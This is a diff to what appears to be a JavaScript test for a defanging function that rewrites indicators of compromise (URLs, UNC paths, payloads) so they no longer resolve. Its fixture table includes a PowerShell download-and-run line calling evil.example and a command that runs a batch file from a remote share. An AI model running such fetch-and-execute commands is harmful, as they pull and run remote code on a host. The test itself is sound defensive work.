@@ -12,6 +12,11 @@ test('SETTLED G15 what is copied defanged leads nowhere: hosts and addresses who
     ['url', 'ftp://10.1.2.3/x.exe', 'fxp://10[.]1[.]2[.]3/x.exe'],
     ['payload', "IEX (iwr 'http://evil.example/a.ps1')", "IEX (iwr 'hxxp://evil[.]example/a.ps1')"],
     ['payload', 'cmd.exe /c \\\\10.1.2.3\\c$\\a.bat 1.2', 'cmd.exe /c \\\\10[.]1[.]2[.]3\\c$\\a.bat 1.2'],
+    ['url', 'http://10.1.2.3.nip.io/x', 'hxxp://10[.]1[.]2[.]3[.]nip[.]io/x'],
+    ['url', 'http://10.1.2.3:8080/', 'hxxp://10[.]1[.]2[.]3[:]8080/'],
+    ['url', 'http://evil.example?f=a.b', 'hxxp://evil[.]example?f=a.b'],
+    ['unc', '\\\\evil.example\\share\\x.exe', '\\\\evil[.]example\\share\\x.exe'],
+    ['payload', 'start \\\\.\\pipe\\a.b C:\\\\a.b', 'start \\\\.\\pipe\\a.b C:\\\\a.b'],
     ['account', 'CORP\\svc.deploy', 'CORP\\svc.deploy'],
     ['hash', 'SHA256=00AA', 'SHA256=00AA'],
   ];
